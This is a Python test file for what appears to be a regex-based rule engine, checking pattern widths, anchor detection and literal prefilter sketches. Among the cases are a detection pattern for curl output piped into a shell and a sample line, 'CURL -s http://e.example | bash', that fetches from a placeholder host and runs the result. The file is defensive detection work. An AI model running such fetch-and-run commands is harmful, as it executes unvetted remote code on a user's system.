"""Widths and sketches of patterns."""

from __future__ import annotations

import pytest

from vanguard.rules.pattern import PatternFilter, compiled
from vanguard.rules.sketch import is_weak, sketch
from vanguard.rules.syntax import UNBOUNDED
from vanguard.rules.width import sees_edges, widest

WIDTHS = [
    *(("abc", 3), (r"\babc\b", 3), ("^abc$", 3), ("a|bcd|ef", 3), ("(a|bcd)e", 4), ("a?b", 2), ("a{3}", 3)),
    *(("a{1,5}", 5), ("(?:ab){2,4}", 8), ("a*", UNBOUNDED), ("ab+", UNBOUNDED), ("(a{2,}b){3}", UNBOUNDED)),
    *(
        ("[abc]{2}", 2),
        ("[]a]", 1),
        ("[^]a]b", 2),
        (r"[\]a]{3}", 3),
        ("[[:alpha:]]{4}", 4),
        (r"\x41\x{1F600}", 2),
    ),
    *(
        (r"\pL\p{Greek}", 2),
        (r"\Qa.b\E{2}", 4),
        (r"\Qa.b", 3),
        ("(?i)abc", 3),
        ("(?i:ab)c", 3),
        ("(?P<n>ab)", 2),
    ),
    *(
        (r"\.\.\/", 3),
        (r"\101", 1),
        ("a{,3}", 5),
        ("a{0}", 0),
        (r"[a\-z]{2}", 2),
        ("a??b", 2),
        ("(?:a{2}){3}", 6),
    ),
    *((".{0,9}", 9), (r"\\{2}", 2), (r"[^\n]{1,7}x", 8), ("", 0)),
]


@pytest.mark.parametrize(("pattern", "width"), WIDTHS)
def test_a_pattern_is_as_wide_as_its_widest_match(pattern: str, width: int) -> None:
    compiled(pattern)
    assert widest(pattern) == width


@pytest.mark.parametrize(
    ("pattern", "seen"),
    [
        (r"\Aab", True),
        (r"ab\z", True),
        ("(?-m)^a", True),
        ("(?i-s:a)", True),
        (r"\\A", False),
        (r"\(?-a", False),
    ],
)
def test_only_operators_see_edges(pattern: str, seen: bool) -> None:
    assert sees_edges(pattern) is seen


FOUND = [
    (r"(?i)\bcurl\s[^|\n]{1,120}\|\s{0,5}(ba|z)?sh\b", "x CURL -s http://e.example | bash"),
    (r"(?:abc|def)+ghi", "defabcghi"),
    (r"\Qa.b*c\E", "a.b*c"),
    (r"(?i)kiss", "\u212aiſs"),
    (r"(?i:ab)cd(?:ef){2,3}gh?", "ABcdefefefg"),
    (r"a{0}bcd", "bcd"),
    (r"[ab]cde|\x66oo", "foo"),
]


@pytest.mark.parametrize(("pattern", "text"), FOUND)
def test_a_sketch_asks_for_nothing_that_a_match_lacks(pattern: str, text: str) -> None:
    assert compiled(pattern).search(text.encode())
    assert compiled(sketch(pattern)).search(text.encode())
    assert PatternFilter([sketch(pattern)]).possible(text.encode())


def test_a_sketch_keeps_what_tells_texts_apart() -> None:
    some = PatternFilter([sketch(r"(?i)\bcurl\s[^|\n]{1,120}\|\s{0,5}(?:bash|zsh)\b")])
    assert not some.possible(b"the curl of the hair")
    assert some.possible(b"curl x and bash")


def test_a_pattern_that_needs_its_classes_to_be_found_is_its_own_sketch() -> None:
    pattern = r"ab[cd]\w{3}"
    assert sketch(pattern) == pattern
    assert not is_weak(pattern)


@pytest.mark.parametrize(
    ("pattern", "weak"), [("abc", False), ("ab", True), (r"\w{9}", True), ("abc|de", True)]
)
def test_a_pattern_without_a_long_literal_on_every_branch_is_weak(pattern: str, weak: bool) -> None:
    assert is_weak(pattern) is weak
